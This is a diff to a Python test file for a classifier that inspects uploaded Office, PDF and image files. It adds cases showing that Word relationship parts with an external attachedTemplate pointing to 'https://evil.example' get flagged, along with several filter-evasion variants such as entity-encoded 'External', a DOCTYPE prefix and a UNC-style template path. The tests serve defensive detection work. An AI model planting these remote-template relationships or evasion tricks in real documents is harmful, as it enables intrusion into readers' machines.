@@ -13,6 +13,7 @@ from tests.materials.sheets import POWERPOINT, a_pdf, a_photo_with_place, an_off
 
 FETCHES = '<Relationships><Relationship Id="a" Type="http://x/attachedTemplate" Target="https://evil.example" TargetMode="External"/></Relationships>'  # noqa: E501
 LINKS = FETCHES.replace("attachedTemplate", "hyperlink")
+OWN_TEMPLATE = FETCHES.replace("https://evil.example", "file:///C:\\Users\\kari\\Normal.dotm")
 
 
 @pytest.mark.parametrize(
@@ -27,6 +28,8 @@ LINKS = FETCHES.replace("attachedTemplate", "hyperlink")
         (an_office_file(), MaterialKind.DOCX),
         (an_office_file(POWERPOINT), MaterialKind.PPTX),
         (an_office_file(word__rels_main__xml__rels=LINKS), MaterialKind.DOCX),
+        (an_office_file(word__rels_main__xml__rels=OWN_TEMPLATE), MaterialKind.DOCX),
+        (an_office_file(word__rels_main__xml__rels=FETCHES.replace("External", "Internal")), MaterialKind.DOCX),
     ],
 )
 def test_a_sheet_is_kept_as_it_came_whatever_it_is_called(content: bytes, kind: MaterialKind) -> None:
@@ -67,6 +70,22 @@ def test_a_sheet_is_kept_as_it_came_whatever_it_is_called(content: bytes, kind: 
         (an_office_file("application/vnd.ms-word.document.macroEnabled.main+xml"), MaterialFault.DOES),
         (an_office_file(word_vbaProject__bin="x"), MaterialFault.DOES),
         (an_office_file(word__rels_main__xml__rels=FETCHES), MaterialFault.DOES),
+        (
+            an_office_file(word__rels_main__xml__rels=FETCHES.replace("evil.example", "a.example/hyperlink")),
+            MaterialFault.DOES,
+        ),
+        (
+            an_office_file(word__rels_main__xml__rels=FETCHES.replace("http://x/", "http://x/hyperlink/")),
+            MaterialFault.DOES,
+        ),
+        (an_office_file(word__rels_main__xml__rels=FETCHES.replace("External", "Exter&#110;al")), MaterialFault.DOES),
+        (an_office_file(word__rels_main__xml__rels=FETCHES.replace('"a"', '"a>"')), MaterialFault.DOES),
+        (
+            an_office_file(word__rels_main__xml__rels=OWN_TEMPLATE.replace("///C:", "//a.example/C:")),
+            MaterialFault.DOES,
+        ),
+        (an_office_file(word__rels_main__xml__rels="<!DOCTYPE a>" + LINKS), MaterialFault.DOES),
+        (an_office_file(word__rels_main__xml__rels=LINKS[:-1]), MaterialFault.BROKEN),
         (an_office_file("application/vnd.ms-excel.sheet.main+xml"), MaterialFault.UNKNOWN),
         (an_office_file()[:-30], MaterialFault.BROKEN),
         (b"\x89PNG\r\n\x1a\n and then nothing", MaterialFault.BROKEN),
